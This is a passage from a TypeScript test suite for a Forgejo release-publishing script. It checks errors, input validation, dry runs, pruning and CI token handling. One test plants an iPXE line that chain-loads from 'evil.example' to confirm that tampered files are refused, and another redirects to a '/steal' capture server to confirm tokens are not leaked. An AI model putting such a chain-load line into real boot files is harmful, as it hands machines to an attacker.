  /** Publishes boot-v1.0.0 and sends Ctrl-C once the server has seen a request matching `when`. */
  async function interrupt(s: ForgejoServer, distDir: string, when: (q: ForgejoServer["requests"][number]) => boolean): Promise<RunResult> {
    return runScript("publish-release.ts", ["--dist", distDir, "--server", s.url, "--repo", "ops/runner-images", "--tag", "boot-v1.0.0", "--unsigned"], {
      env: cleanEnv({ FORGEJO_TOKEN: WRITE, ...FAST, RUNNER_IMAGES_STALL_TIMEOUT: "30", RUNNER_IMAGES_HTTP_TIMEOUT: "30" }),
      started: async (child) => {
        while (!s.requests.some(when)) await Bun.sleep(20);
        child.kill("SIGINT");
      },
    });
  }
  const lastLine = (r: RunResult) => r.stderr.trimEnd().split("\n").at(-1);

  test("mid-upload: exit 130, and the last line says what is left and how to finish", async () => {
    const s = await server();
    const d = await dist();
    s.addFault({ kind: "stall", method: "POST", path: /\/assets$/, afterBytes: 64 * 1024, ms: 20_000 });
    const r = await interrupt(s, d.dir, (q) => q.method === "POST" && q.path.endsWith("/assets"));
    expect(r.code).toBe(130);
    expect(lastLine(r)).toBe("interrupted: boot-v1.0.0 is left as a draft, not visible to downloaders; run the same command again to finish it");
    expect(s.state().releases.find((x) => x.tagName === "boot-v1.0.0")?.draft).toBe(true);
  }, 30_000);

  test("before anything was written: nothing changed on the server", async () => {
    const s = await server();
    const d = await dist();
    s.addFault({ kind: "stall", method: "GET", path: /\/git\/commits\//, ms: 20_000 });
    const r = await interrupt(s, d.dir, (q) => q.path.includes("/git/commits/"));
    expect(r.code).toBe(130);
    expect(lastLine(r)).toBe("interrupted: nothing was changed on the server");
  }, 30_000);
});

describe("errors name the fix", () => {
  test("401: the token is missing, expired or revoked", async () => {
    const s = await server();
    const d = await dist();
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"], { FORGEJO_TOKEN: "fjt_expired_1234567890" });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("401");
    expect(r.stderr).toContain("the token is missing, expired or revoked");
    expect(r.stderr).not.toContain("fjt_expired_1234567890");
  });

  test("a read-only token: it cannot write the repository", async () => {
    const s = await server();
    const d = await dist();
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"], { FORGEJO_TOKEN: READ });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("the token can read ops/runner-images but not write it");
  });

  test("403 on creating the release: a write user's read-scoped token, named as a scope problem; nothing is uploaded", async () => {
    const SCOPED = "fjt_scoped_0a1b2c3d4e5f6a7b";
    const s = await server({ tokens: { ...TOKENS, [SCOPED]: { user: "publisher", access: "write", scope: "read" } } });
    const d = await dist();
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"], { FORGEJO_TOKEN: SCOPED });
    expect(r.stderr).not.toContain(SCOPED);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("creating release boot-v1.0.0: 403");
    expect(r.stderr).toContain("the token lacks the write:repository scope");
    expect(uploadedBytes(s)).toBe(0);
    expect(s.state().releases).toHaveLength(0);
  });

  test("404: wrong repository, or one the token cannot see", async () => {
    const s = await server({ private: true });
    const d = await dist();
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"], { FORGEJO_TOKEN: NONE });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("404");
    expect(r.stderr).toContain("check --repo ops/runner-images");
  });

  test("413 with an HTML body: a reverse proxy's size limit; nothing is published", async () => {
    const s = await server();
    const d = await dist();
    s.addFault({ kind: "proxy413", maxBody: 1024 * 1024, method: "POST", path: /\/assets$/, times: 10 });
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("a reverse proxy in front of Forgejo refused the body size");
    expect(r.stderr).toContain("client_max_body_size");
    expect(s.state().releases.find((x) => x.tagName === "boot-v1.0.0")!.draft).toBe(true);
  });

  test("413 with a JSON body: the quota", async () => {
    const s = await server();
    const d = await dist();
    s.addFault({ kind: "quota", method: "POST", path: /\/assets$/, times: 10 });
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("quota");
    expect(r.stderr).not.toContain("reverse proxy");
  });

  test("422 on a protected tag with the Actions token: push the tag first", async () => {
    const s = await server({ protectedTags: ["boot-v*"] });
    const d = await dist();
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"], { FORGEJO_TOKEN: ACTIONS });
    // A draft creates no tag, so creating succeeds; publishing would create the protected tag.
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`push the tag first (git push origin ${MAIN_SHA}:refs/tags/boot-v1.0.0)`);
    expect(s.state().tags["boot-v1.0.0"]).toBeUndefined();
    // The maintainer pushes the tag; the same command now finishes the release.
    s.pushTag("boot-v1.0.0", MAIN_SHA);
    expect((await publish(s, d.dir, ["--tag", "boot-v1.0.0"], { FORGEJO_TOKEN: ACTIONS })).code).toBe(0);
    await expectComplete(s, "boot-v1.0.0", d.dir);
  });

  test("a redirect to another origin is refused and the token never goes there", async () => {
    const s = await server();
    const capture = await startCaptureServer();
    const d = await dist();
    s.addFault({ kind: "redirect", location: `${capture.url}/steal`, status: 307, times: 20 });
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
    await capture.stop();
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("redirected to");
    for (const seen of capture.seen) expect(seen.headers.authorization).toBeUndefined();
  });

  test("a TLS failure says how to trust a private CA", async () => {
    const d = await dist();
    // A self-signed certificate: what a private CA looks like to a client that does not trust it.
    await $({ cwd: d.dir, quiet: true })`openssl req -x509 -newkey rsa:2048 -nodes -keyout key.pem -out cert.pem -subj /CN=localhost -days 1`;
    const tls = Bun.serve({
      port: 0,
      hostname: "127.0.0.1",
      tls: { key: Bun.file(join(d.dir, "key.pem")), cert: Bun.file(join(d.dir, "cert.pem")) },
      fetch: () => new Response("{}"),
    });
    try {
      const r = await publish(`https://127.0.0.1:${tls.port}`, d.dir, ["--tag", "boot-v1.0.0"], { RUNNER_IMAGES_RETRIES: "0" });
      expect(r.code).toBe(1);
      expect(r.stderr).toContain("TLS with");
      expect(r.stderr).toContain("NODE_EXTRA_CA_CERTS");
    } finally {
      tls.stop(true);
    }
  });

  test("a 200 that is not JSON (a proxy's login page in front of the API) is named, without the parser's text", async () => {
    const d = await dist();
    const proxy = Bun.serve({
      port: 0,
      hostname: "127.0.0.1",
      fetch: (req) =>
        new URL(req.url).pathname === "/api/v1/version"
          ? Response.json({ version: "14.0.0" })
          : new Response("<html>Sign in</html>", { headers: { "content-type": "text/html" } }),
    });
    try {
      const r = await publish(`http://127.0.0.1:${proxy.port}`, d.dir, ["--tag", "boot-v1.0.0"]);
      expect(r.code).toBe(1);
      expect(r.stderr).toContain(`error: reading ops/runner-images: the server answered 200 with an HTML page, not the API's JSON`);
      expect(r.stderr).not.toContain("Parse error");
    } finally {
      proxy.stop(true);
    }
  });
});

describe("bad input is refused before anything is sent (exit 2)", () => {
  test("no token", async () => {
    const d = await dist();
    const r = await publish("http://127.0.0.1:1", d.dir, ["--tag", "boot-v1.0.0"], { FORGEJO_TOKEN: undefined });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("no token: set FORGEJO_TOKEN");
  });

  test("--token-file is read and trimmed, and its value never printed", async () => {
    const s = await server();
    const d = await dist();
    const file = join(d.dir, "..", `token-${Date.now()}`);
    await writeFile(file, `  ${WRITE}\n`);
    dirs.push(file);
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--token-file", file], { FORGEJO_TOKEN: undefined });
    expect(r.code).toBe(0);
  });

  test("plain http off loopback", async () => {
    const d = await dist();
    const r = await publish("http://forge.example", d.dir, ["--tag", "boot-v1.0.0"]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("is plain http");
  });

  test("publishing to the Codeberg mirror from CI", async () => {
    const d = await dist();
    const r = await publish("https://codeberg.org", d.dir, ["--tag", "boot-v1.0.0"], { FORGEJO_RUN_ID: "1" });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("the Codeberg mirror only distributes");
  });

  test("a dirty build under a boot-v tag, unless --allow-dirty; a dev tag is fine", async () => {
    const s = await server();
    const d = await dist({ dirty: true });
    const refused = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain("uncommitted changes");
    expect(s.requests).toHaveLength(0);
    expect((await publish(s, d.dir, ["--tag", "boot-dev-local-1"])).code).toBe(0);
    expect((await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--allow-dirty"])).code).toBe(0);
  });

  test("a dist whose file no longer matches its manifest", async () => {
    const s = await server();
    const d = await dist();
    await writeFile(join(d.dir, "netboot-x86_64.ipxe"), "#!ipxe\nchain http://evil.example/\n");
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("netboot-x86_64.ipxe is");
    expect(r.stderr).toContain("rebuild it with build-images.ts");
    expect(r.stderr).not.toContain("--help");
    expect(s.requests).toHaveLength(0);
  });

  test("a --dist that does not exist is named as missing, not as a missing manifest", async () => {
    const r = await publish("http://127.0.0.1:1", "/nonexistent/dist", ["--tag", "boot-v1.0.0"]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("error: --dist /nonexistent/dist: no such directory");
    expect(r.stderr).toContain("build-images.ts");
    expect(r.stderr).not.toContain("manifest.json");
  });

  test("a network setting that is not a number is bad input (exit 2), named with its variable", async () => {
    const d = await dist();
    const r = await publish("http://127.0.0.1:1", d.dir, ["--tag", "boot-v1.0.0"], { RUNNER_IMAGES_HTTP_TIMEOUT: "1m" });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("error: RUNNER_IMAGES_HTTP_TIMEOUT=1m: give a number of 0 or more (seconds)");
    expect(r.stderr).not.toContain("refused");
  });

  test("--keep-dev -1 is named as a bad number, not as an unknown option", async () => {
    const d = await dist();
    const r = await publish("http://127.0.0.1:1", d.dir, ["--tag", "boot-v1.0.0", "--keep-dev", "-1"]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("--keep-dev -1 is not a whole number of 0 or more");
  });

  test("a dist file with the right size but other bytes: refused before anything is written", async () => {
    const s = await server();
    const d = await dist();
    const iso = join(d.dir, "runner-x86_64.iso");
    const bytes = await Bun.file(iso).bytes();
    bytes[4096] = bytes[4096]! ^ 1;
    await Bun.write(iso, bytes);
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("runner-x86_64.iso has SHA-256");
    expect(s.requests.every((q) => q.method === "GET")).toBe(true);
  });

  test("a dist the statement cannot be written into: named as such, exit 2, nothing sent, no runtime text", async () => {
    const s = await server();
    const d = await dist();
    // Root writes anywhere it may; a directory where the statement goes fails for everyone (as a read-only mount would).
    await $`mkdir ${join(d.dir, "provenance.intoto.json")}`;
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`error: --dist ${d.dir}: cannot write provenance.intoto.json into it (EISDIR)`);
    expect(r.stderr).not.toMatch(/illegal operation|EISDIR:/);
    expect(s.requests).toHaveLength(0);
  });

  test("a tag git refuses is refused before any upload, naming the rule (Forgejo would 500 at publish)", async () => {
    const s = await server();
    const d = await dist();
    for (const [tag, rule] of [["boot-v1.0.0-rc.", "ends with a dot"], ["boot-v1.0.0-x.lock", 'ends with ".lock"'], ["boot-dev-a..b", 'contains ".."']]) {
      const r = await publish(s, d.dir, ["--tag", tag!]);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain(`--tag ${tag}: git refuses it as a tag name: `);
      expect(r.stderr).toContain(rule!);
    }
    expect(s.requests).toHaveLength(0);
  });

  test("every boot-v* tag the workflow fires on and git accepts is published: boot-v1.10, boot-v2026.11.30", async () => {
    const s = await server();
    const d = await dist();
    for (const tag of ["boot-v1.10", "boot-v2026.11.30"]) {
      const r = await publish(s, d.dir, ["--tag", tag]);
      expect(r.code).toBe(0);
      expect((await expectComplete(s, tag, d.dir)).prerelease).toBe(false);
    }
  });

  test("a tag of another shape, and a missing tag by hand", async () => {
    const d = await dist();
    expect((await publish("http://127.0.0.1:1", d.dir, ["--tag", "v1.0"])).stderr).toContain("--tag v1.0: a release tag is boot-v<version> (e.g. boot-v1.2.0) or boot-dev-<label>");
    const r = await publish("http://127.0.0.1:1", d.dir, []);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("no tag");
  });

  test("--token is not a flag: tokens never go on the command line", async () => {
    const d = await dist();
    const r = await publish("http://127.0.0.1:1", d.dir, ["--tag", "boot-v1.0.0", "--token", WRITE]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("unknown option --token");
  });
});

describe("--dry-run", () => {
  test("prints the plan with bytes and changes nothing", async () => {
    const s = await server();
    const d = await dist();
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--dry-run", "--json"]);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain("plan: would create draft release boot-v1.0.0");
    expect(r.stderr).toContain("plan: would upload runner-x86_64.iso (3.0 MiB)");
    expect(r.stderr).toContain("nothing was changed");
    expect(JSON.parse(r.stdout).plannedUploadBytes).toBeGreaterThan(3 * 1024 * 1024);
    expect(s.requests.every((q) => q.method === "GET")).toBe(true);
    expect(s.state().releases).toHaveLength(0);
  });

  test("with a signing key, plans the signature but writes nothing into the dist", async () => {
    const s = await server();
    const d = await dist();
    const key = join(d.dir, "..", `key-${Date.now()}`);
    await makeSshKey(key);
    dirs.push(key, `${key}.pub`);
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--dry-run", "--signing-key", key]);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain("plan: would write provenance.intoto.json for boot-v1.0.0, signed into provenance.intoto.json.sig");
    expect(await Bun.file(join(d.dir, "provenance.intoto.json")).exists()).toBe(false);
    expect(await Bun.file(join(d.dir, "provenance.intoto.json.sig")).exists()).toBe(false);
  });

  test("with a real --signing-key file: the dry run refuses what the real run would (missing, readable by others, encrypted)", async () => {
    const s = await server();
    const d = await dist();
    const key = join(d.dir, "..", `key-${Date.now()}-enc`);
    await makeSshKey(key, { passphrase: "a passphrase" });
    dirs.push(key, `${key}.pub`);
    const missing = await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--dry-run", "--signing-key", `${key}-nope`]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain("does not exist");
    const encrypted = await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--dry-run", "--signing-key", key]);
    expect(encrypted.code).toBe(1);
    expect(encrypted.stderr).toContain("signing provenance.intoto.json failed");
    const real = await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--signing-key", key]);
    expect(real.code).toBe(1);
    expect(real.stderr).toContain("signing provenance.intoto.json failed");
    await $`chmod 644 ${key}`;
    const readable = await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--dry-run", "--signing-key", key]);
    expect(readable.code).toBe(2);
    expect(readable.stderr).toContain("is readable by others: chmod 600 it");
    expect(await Bun.file(join(d.dir, "provenance.intoto.json.sig")).exists()).toBe(false);
    expect(s.state().releases).toHaveLength(0);
  });

  test("on a half-synced draft, plans exactly the remaining work", async () => {
    const s = await server();
    const d = await dist();
    const id = await createDraft(s, "boot-v1.0.0");
    await uploadRaw(s, id, "bzImage-x86_64", await Bun.file(join(d.dir, "bzImage-x86_64")).bytes());
    await uploadRaw(s, id, "stale.partial-1", new Uint8Array(5));
    // The dry run downloads the same-size bzImage to compare it, as the real run does: only
    // that asset's download counter may change.
    const uncounted = () => JSON.stringify(s.state(), (key, value) => (key === "downloadCount" ? undefined : value));
    const before = uncounted();
    const r = await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--dry-run"]);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain("plan: would skip bzImage-x86_64: already there, identical");
    expect(r.stderr).toContain("plan: would delete stale.partial-1");
    expect(r.stderr).toContain("plan: would upload runner-x86_64.iso");
    expect(uncounted()).toBe(before);
    expect(s.state().releases[0]!.assets.map((a) => [a.name, a.downloadCount])).toEqual([["bzImage-x86_64", 1], ["stale.partial-1", 0]]);
  });
});

describe("the plan a dry run prints is the plan the real run applies", () => {
  test("on a half-synced draft: the same plan lines, and the server ends as the plan said", async () => {
    const s = await server();
    const d = await dist();
    const id = await createDraft(s, "boot-v1.0.0");
    const bzImage = await Bun.file(join(d.dir, "bzImage-x86_64")).bytes();
    const changed = (await Bun.file(join(d.dir, "initrd-x86_64")).bytes()).slice();
    changed[0] = changed[0]! ^ 0xff; // same size, other bytes
    await uploadRaw(s, id, "bzImage-x86_64", bzImage);
    await uploadRaw(s, id, "bzImage-x86_64", bzImage); // a duplicate name
    await uploadRaw(s, id, "initrd-x86_64", changed);
    await uploadRaw(s, id, "notes.txt", new Uint8Array(10)); // a stray
    // runner-x86_64.iso and the small files are missing.
    const kept = s.state().releases[0]!.assets[0]!.id;
    const planned = (r: RunResult) => r.stderr.split("\n").filter((l) => l.startsWith("plan: "));

    const dry = await publish(s, d.dir, ["--tag", "boot-v1.0.0", "--dry-run"]);
    expect(dry.code).toBe(0);
    const from = s.requests.length;
    const real = await publish(s, d.dir, ["--tag", "boot-v1.0.0"]);
    expect(real.code).toBe(0);
    expect(planned(real)).toEqual(planned(dry));
    expect(planned(dry)).toEqual(expect.arrayContaining([
      "plan: would delete notes.txt (not in the dist) [sends 1 API call]",
      "plan: would skip bzImage-x86_64: already there, identical [sends nothing]",
      "plan: would delete bzImage-x86_64 (duplicate name) [sends 1 API call]",
      "plan: would replace initrd-x86_64 (195.3 KiB) [sends 3 API calls, 195.3 KiB uploaded]",
      "plan: would upload runner-x86_64.iso (3.0 MiB) [sends 2 API calls, 3.0 MiB uploaded]",
    ]));

    // Applied as planned: exactly the planned uploads were sent, in order; the kept asset is the
    // one that was there; the release holds the dist, published.
    const uploadsPlanned = planned(dry).flatMap((l) => l.match(/^plan: would (?:upload|replace) (\S+)/)?.[1] ?? []);
    const uploadsSent = s.requests.slice(from).filter((q) => q.method === "POST" && q.path.endsWith("/assets"))
      .map((q) => decodeURIComponent(new URLSearchParams(q.query).get("name") ?? "").replace(/\.partial-\w+$/, ""));
    expect(uploadsSent).toEqual(uploadsPlanned);
    const deletesPlanned = planned(dry).filter((l) => l.startsWith("plan: would delete")).length;
    expect(s.requests.slice(from).filter((q) => q.method === "DELETE").length).toBe(deletesPlanned + 1); // + the replaced initrd
    const release = await expectComplete(s, "boot-v1.0.0", d.dir);
    expect(release.assets.find((a) => a.name === "bzImage-x86_64")!.id).toBe(kept);
  });
});

describe("pruning dev releases", () => {
  test("keeps the newest --keep-dev dev releases, deletes the rest with their tags, never boot-v ones", async () => {
    const s = await server();
    const d = await dist();
    expect((await publish(s, d.dir, ["--tag", "boot-v1.0.0"])).code).toBe(0);
    for (let i = 1; i <= 5; i++) {
      expect((await publish(s, d.dir, ["--tag", `boot-dev-${i}`, "--verify", "sizes"])).code).toBe(0);
      await Bun.sleep(1100); // distinct created_at seconds, as on a real server
    }
    const tags = s.state().releases.filter((r) => !r.isTag).map((r) => r.tagName).sort();
    expect(tags).toEqual(["boot-dev-3", "boot-dev-4", "boot-dev-5", "boot-v1.0.0"]);
    expect(Object.keys(s.state().tags).sort()).toEqual(["boot-dev-3", "boot-dev-4", "boot-dev-5", "boot-v1.0.0"]);
  }, 60_000);

  test("pages through more releases than one page holds", async () => {
    const s = await server({ maxResponseItems: 5, defaultPagingNum: 5 });
    const d = await dist();
    for (let i = 0; i < 12; i++) {
      const id = await createDraft(s, `boot-dev-old-${i}`);
      expect((await api(s, "PATCH", `/releases/${id}`, { draft: false })).status).toBe(200);
    }
    const r = await publish(s, d.dir, ["--tag", "boot-dev-new", "--keep-dev", "2", "--verify", "sizes"]);
    expect(r.stderr).not.toContain("error:");
    expect(r.code).toBe(0);
    const left = s.state().releases.filter((x) => !x.isTag && x.tagName.startsWith("boot-dev-"));
    expect(left).toHaveLength(2);
    expect(left.map((x) => x.tagName)).toContain("boot-dev-new");
  }, 30_000);
});

describe("the command line", () => {
  test("--help names every flag, marks the ones required by hand, and shows them in the usage line", async () => {
    const r = await runScript("publish-release.ts", ["--help"]);
    expect(r.code).toBe(0);
    const FLAGS = [
      "--dist", "--server", "--repo", "--insecure-http", "--public-url", "--tag", "--title", "--notes-file", "--prerelease", "--keep-dev",
      "--verify", "--token-file", "--signing-key", "--boot-signing-cert", "--boot-signing-chain", "--boot-signing-key", "--unsigned", "--allow-dirty", "--replace-published", "--dry-run", "--json", "--debug",
    ];
    const options = r.stdout.slice(r.stdout.indexOf("Options:"), r.stdout.indexOf("\n\n", r.stdout.indexOf("Options:")));
    const listed = [...options.matchAll(/^ {2}(--[a-z-]+)/gm)].map((m) => m[1]);
    // Every flag listed, and no flag the test does not know: a new flag must join this list.
    expect(listed.sort()).toEqual([...FLAGS].sort());
    const usage = r.stdout.slice(r.stdout.indexOf("Usage:"), r.stdout.indexOf("Options:"));
    for (const f of FLAGS) expect(usage).toContain(f);
    expect(usage).toContain("$ publish-release.ts --server <url> --tag <tag> [--dist <dir>]");
    expect(options).toMatch(/--tag <tag> +\[required by hand\]/);
    expect(options).toMatch(/--server <url> +\[required by hand\]/);
    expect(r.stdout).toContain("FORGEJO_TOKEN");
    expect(r.stdout).toContain("RUNNER_IMAGES_CONNECT_TIMEOUT");
    expect(r.stdout).toContain("Exit codes");
    expect(r.stdout).not.toMatch(/[ \t]$/m);
  });

  test("the script is executable, as its shebang promises", async () => {
    const mode = (await $({ quiet: true, cwd: ROOT })`git ls-files -s scripts/publish-release.ts`).stdout.split(" ")[0];
    expect(mode).toBe("100755");
  });
});

describe("CI-style publishing with the Actions token (env only): private repositories", () => {
  const RUNTIME = "eyJhbGciOiJIUzI1NiJ9.eyJUYXNrSUQiOjJ9.runtime-sig";
  const ciTokens = { ...TOKENS, [RUNTIME]: { user: "forgejo-actions", access: "write" as const, actions: true } };
  const CI = { FORGEJO_RUN_ID: "77", FORGEJO_RUN_NUMBER: "12", FORGEJO_REF_TYPE: "branch", FORGEJO_REF_NAME: "main", FORGEJO_EVENT_NAME: "workflow_dispatch" };
  const TAG = `boot-dev-12-${MAIN_SHA.slice(0, 7)}`;
  /** As the workflow's publish step runs it: no --server, --repo or --tag; the runner's variables and a token in the environment. */
  async function publishInCi(s: ForgejoServer, distDir: string, token: string, args: string[] = []): Promise<RunResult> {
    const r = await runScript("publish-release.ts", ["--dist", distDir, ...args], {
      env: cleanEnv({ ...FAST, ...CI, FORGEJO_TOKEN: token, FORGEJO_SERVER_URL: s.url, FORGEJO_REPOSITORY: "ops/runner-images" }),
    });
    for (const t of [WRITE, ACTIONS, RUNTIME]) expect(r.stderr + r.stdout).not.toContain(t);
    return r;
  }
  const writes = (s: ForgejoServer, from = 0) => s.requests.slice(from).filter((q) => q.method !== "GET" && q.method !== "HEAD");
  const downloads = (s: ForgejoServer, from = 0) => s.requests.slice(from).filter((q) => q.method === "GET" && q.path.startsWith("/attachments/"));

  test("a private repository and the Actions token: refused before any write, with the cause and the fix", async () => {
    const s = await startForgejo({ tokens: ciTokens, private: true });
    servers.push(s);
    const d = await dist();
    for (const token of [ACTIONS, RUNTIME]) {
      const r = await publishInCi(s, d.dir, token);
      expect(r.code).toBe(1);
      const line = r.stderr.split("\n").find((l) => l.includes("refusing to publish before any upload"));
      expect(line).toContain("ops/runner-images is private");
      expect(line).toContain("RUNNER_IMAGES_RELEASE_TOKEN");
      expect(line).toContain("--verify sizes");
      expect(writes(s)).toEqual([]);
      expect(s.state().releases.filter((x) => !x.isTag)).toEqual([]);
    }
  });

  test("a public repository of a private owner: the same refusal; of a limited owner: published and every byte read back", async () => {
    const hidden = await startForgejo({ tokens: ciTokens, ownerVisibility: "private" });
    servers.push(hidden);
    const d = await dist();
    const r = await publishInCi(hidden, d.dir, ACTIONS);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("whose visibility is private");
    expect(writes(hidden)).toEqual([]);

    const limited = await startForgejo({ tokens: ciTokens, ownerVisibility: "limited" });
    servers.push(limited);
    expect((await publishInCi(limited, d.dir, ACTIONS)).code).toBe(0);
    await expectComplete(limited, TAG, d.dir);
    expect(downloads(limited).length).toBeGreaterThanOrEqual(ALL_FILES.length);
  });

  test("a private repository and a writer's personal token (the workflow's release-token secret): published, every byte read back; re-runs are 'already published'", async () => {
    const s = await startForgejo({ tokens: ciTokens, private: true });
    servers.push(s);
    const d = await dist();
    const r = await publishInCi(s, d.dir, WRITE);
    expect(r.code).toBe(0);
    await expectComplete(s, TAG, d.dir);
    expect(downloads(s).length).toBeGreaterThanOrEqual(ALL_FILES.length);
    const from = s.requests.length;
    const again = await publishInCi(s, d.dir, WRITE);
    expect(again.code).toBe(0);
    expect(again.stderr).toContain("already published with exactly these files: nothing to do");
    expect(writes(s, from)).toEqual([]);
  });

  test("a private repository, the Actions token and an explicit --verify sizes: published with a loud warning; a re-run of a half-synced draft and of the published release work", async () => {
    const s = await startForgejo({ tokens: ciTokens, private: true });
    servers.push(s);
    const d = await dist();
    // A run cut short left a draft with one file on it.
    const id = await createDraft(s, TAG);
    await uploadRaw(s, id, "SHA256SUMS", await Bun.file(join(d.dir, "SHA256SUMS")).bytes());
    const r = await publishInCi(s, d.dir, ACTIONS, ["--verify", "sizes"]);
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/warning: --verify sizes: ops\/runner-images is private.*only names and sizes are checked/);
    await expectComplete(s, TAG, d.dir);
    expect(downloads(s)).toEqual([]);
    const again = await publishInCi(s, d.dir, ACTIONS, ["--verify", "sizes"]);
    expect(again.code).toBe(0);
    expect(again.stderr).toContain("already published with exactly these files (names and sizes)");
    // Without --verify sizes the published release is not judged by sizes alone either.
    const full = await publishInCi(s, d.dir, ACTIONS);
    expect(full.code).toBe(1);
    expect(full.stderr).toContain("refusing to publish before any upload");
  });

  test("a public repository with the Actions token still reads every byte back", async () => {
    const s = await startForgejo({ tokens: ciTokens });
    servers.push(s);
    const d = await dist();
    const r = await publishInCi(s, d.dir, RUNTIME);
    expect(r.code).toBe(0);
    await expectComplete(s, TAG, d.dir);
    expect(downloads(s).length).toBeGreaterThanOrEqual(ALL_FILES.length);
    expect(r.stderr).not.toContain("--verify sizes");
  });
});

describe("the signed builder id names the workflow's file, not its name:", () => {
  // As forgejo-runner v12.2+ sets them on Forgejo v14+: GITHUB_WORKFLOW is the `name:`, GITHUB_WORKFLOW_REF the file at a ref.
  const run = {
    FORGEJO_RUN_ID: "901", FORGEJO_RUN_NUMBER: "31", FORGEJO_SERVER_URL: "https://forge.example", FORGEJO_REPOSITORY: "ops/runner-images",
    FORGEJO_REF: "refs/tags/boot-v1.0.0", FORGEJO_EVENT_NAME: "push", FORGEJO_WORKFLOW: "Runner boot images",
  };
  test("GITHUB_WORKFLOW_REF gives the file; the statement's builder filters the run list by it", async () => {
    const { ciEnv, ciRun } = await import("../scripts/lib/cli/ci-env.ts");
    const { makeStatement } = await import("../scripts/lib/trust/provenance.ts");
    const ci = ciRun(ciEnv({ ...run, GITHUB_WORKFLOW_REF: "ops/runner-images/.forgejo/workflows/boot-images.yml@refs/tags/boot-v1.0.0" }))!;
    expect(ci.workflowFile).toBe("boot-images.yml");
    const d = await dist();
    const statement = makeStatement({ ...d.manifest, ci }, new Uint8Array(), new Uint8Array(), "boot-v1.0.0");
    expect(statement.predicate.runDetails.builder.id).toBe("https://forge.example/ops/runner-images/actions?workflow=boot-images.yml");
    expect(statement.predicate.runDetails.builder.id).not.toContain("Runner");
  });

  test("without a workflow ref (Forgejo before v14) or with one that is not a workflow file: the unfiltered run list, never the name", async () => {
    const { ciEnv, ciRun } = await import("../scripts/lib/cli/ci-env.ts");
    const { makeStatement } = await import("../scripts/lib/trust/provenance.ts");
    const d = await dist();
    for (const ref of [undefined, "", "ops/runner-images/../../x@y", "ops/runner-images/.forgejo/workflows/a b.yml@refs/heads/main", "ops/runner-images/src/boot.yml@refs/heads/main"]) {
      const ci = ciRun(ciEnv({ ...run, FORGEJO_WORKFLOW_REF: ref }))!;
      const id = makeStatement({ ...d.manifest, ci }, new Uint8Array(), new Uint8Array(), "boot-v1.0.0").predicate.runDetails.builder.id;
      expect({ ref, id }).toEqual({ ref, id: "https://forge.example/ops/runner-images/actions" });
    }
  });
});

describe("public URLs come from the server's answers, under an address the operator gave, never the runner's registration address", () => {
  test("a runner registered with an internal address publishes notes whose download and iPXE chain links name the public repository (RUNNER_IMAGES_PUBLIC_URL)", async () => {
    const s = await startForgejo({ tokens: TOKENS, appUrl: "https://forge.example.org/" });
    servers.push(s);
    const d = await dist();
    const ci = { FORGEJO_RUN_ID: "77", FORGEJO_RUN_NUMBER: "12", FORGEJO_REF_TYPE: "branch", FORGEJO_REF_NAME: "main", FORGEJO_EVENT_NAME: "workflow_dispatch" };
    // FORGEJO_SERVER_URL is the internal address the runner registered with (here: the test server's own).
    const r = await runScript("publish-release.ts", ["--dist", d.dir], {
      env: cleanEnv({ ...FAST, ...ci, FORGEJO_TOKEN: WRITE, FORGEJO_SERVER_URL: s.url, FORGEJO_REPOSITORY: "ops/runner-images", RUNNER_IMAGES_PUBLIC_URL: "https://forge.example.org" }),
    });
    expect(r.code).toBe(0);
    const tag = `boot-dev-12-${MAIN_SHA.slice(0, 7)}`;
    const note = s.state().releases.find((x) => x.tagName === tag)!.note;
    expect(note).toContain(`chain https://forge.example.org/ops/runner-images/releases/download/${tag}/netboot-x86_64.ipxe`);
    expect(note).not.toContain(s.url);
    expect(r.stderr).toContain(`published: https://forge.example.org/ops/runner-images/releases/tag/${tag}`);
  });

  // The runner registered with the server's listening address (an internal one, as far as the
